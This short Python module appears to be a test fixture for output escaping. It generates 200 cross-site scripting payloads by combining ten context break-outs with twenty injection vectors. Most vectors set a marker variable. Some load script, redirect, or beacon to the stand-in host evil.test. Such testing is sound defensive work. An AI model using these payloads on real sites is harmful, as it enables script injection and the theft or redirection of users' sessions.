"""200 texts that would run in a page which forgets to escape: 20 ways to run, behind 10 ways to break out."""

BREAK_OUTS = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</pre></td>", "<!--", "]]>")
WAYS = (
    "<script>__fired=1</script>",
    "<img src=x onerror=__fired=1>",
    "<svg onload=__fired=1>",
    "<svg><script>__fired=1</script>",
    "<body onload=__fired=1>",
    "<input autofocus onfocus=__fired=1>",
    "<details open ontoggle=__fired=1>",
    "<iframe srcdoc='<script>top.__fired=1</script>'>",
    "<a href=javascript:__fired=1>x</a>",
    "<object data=javascript:__fired=1>",
    "<form action=javascript:__fired=1><button>",
    "<math><a href=javascript:__fired=1>x",
    "<link rel=stylesheet href=//evil.test>",
    "<img src=//evil.test/p.png>",
    "<script src=//evil.test/x.js></script>",
    "<base href=//evil.test>",
    "<meta http-equiv=refresh content='0;//evil.test'>",
    "<p style=background:url(//evil.test)>",
    '" autofocus onfocus=__fired=1 onclick=__fired=1 x="',
    "{{7*7}}<b hx-get=//evil.test hx-trigger=load>",
)
PAYLOADS = tuple(out + way for out in BREAK_OUTS for way in WAYS)
# Each fits the shortest field there is, a dataset's version.
assert len(set(PAYLOADS)) == 200
assert max(map(len, PAYLOADS)) <= 64, max(PAYLOADS, key=len)
